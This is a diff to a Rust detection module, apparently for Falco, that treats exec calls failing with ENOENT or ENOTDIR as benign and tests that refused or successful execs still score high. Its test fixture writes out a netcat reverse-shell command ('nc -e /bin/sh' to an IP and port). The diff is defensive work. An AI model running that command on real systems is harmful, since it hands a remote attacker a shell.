@@ -112,6 +112,19 @@ pub struct Verdict {
 /// ([`crate::report::render`]) are built only when someone reads them, which for Falco is
 /// when a rule fired.
 pub fn analyze(facts: &ExecFacts, lineage: &Lineage) -> Verdict {
+    if let Some(why) = nothing_ran(facts) {
+        return Verdict {
+            risk: 0,
+            severity: Severity::Debug,
+            category: "benign",
+            hits: Vec::new(),
+            techniques: Vec::new(),
+            tactics: Vec::new(),
+            mitigations: Vec::new(),
+            notes: vec![why.to_string()],
+            test_activity: false,
+        };
+    }
     // Pathological argv/env (a 1 MiB `rm -f` list) is judged on a bounded view, so the work
     // per exec is bounded whatever the input; the summary still counts the whole argv.
     let bounded = bounded_view(facts);
@@ -196,6 +209,20 @@ fn names_word(text: &str, word: &str) -> bool {
     })
 }
 
+/// Why an exec that failed ran nothing: a PATH search makes one failed exec per directory
+/// it tries (ENOENT), each with the whole argv, before the one that runs (judged on its
+/// own). A refused exec stays visible (EACCES, EPERM: a binary stopped by a noexec mount or
+/// a policy is news; ENOEXEC: a file that is not a program).
+fn nothing_ran(facts: &ExecFacts) -> Option<&'static str> {
+    match facts.res? {
+        -2 => Some("the exec failed with ENOENT (no such file): nothing ran"),
+        -20 => {
+            Some("the exec failed with ENOTDIR (a path component is not a directory): nothing ran")
+        }
+        _ => None,
+    }
+}
+
 /// Most argv (and env) entries the detectors look at. Matches the plugin's decode limit.
 pub const SCAN_MAX_ARGS: usize = 256;
 /// Most bytes of argv (and of env) the detectors look at.
@@ -261,4 +288,29 @@ fn bounded_view(facts: &ExecFacts) -> Option<ExecFacts> {
         exe_ino_ctime: facts.exe_ino_ctime,
         exe_ino_mtime: facts.exe_ino_mtime,
     })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn reverse_shell(res: i64) -> Verdict {
+        let mut f = ExecFacts::from_argv(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
+        f.res = Some(res);
+        analyze(&f, &Lineage::from_comms(["bash"]))
+    }
+
+    #[test]
+    fn a_failed_path_search_ran_nothing() {
+        for res in [-2, -20] {
+            let v = reverse_shell(res);
+            assert_eq!((v.risk, v.hits.len()), (0, 0), "res {res}");
+            assert!(v.notes[0].contains("nothing ran"), "{:?}", v.notes);
+        }
+        // Refused execs stay visible: EACCES (noexec mount), EPERM, ENOEXEC.
+        for res in [-13, -1, -8] {
+            assert!(reverse_shell(res).risk >= 80, "res {res}");
+        }
+        assert!(reverse_shell(0).risk >= 80);
+    }
 }
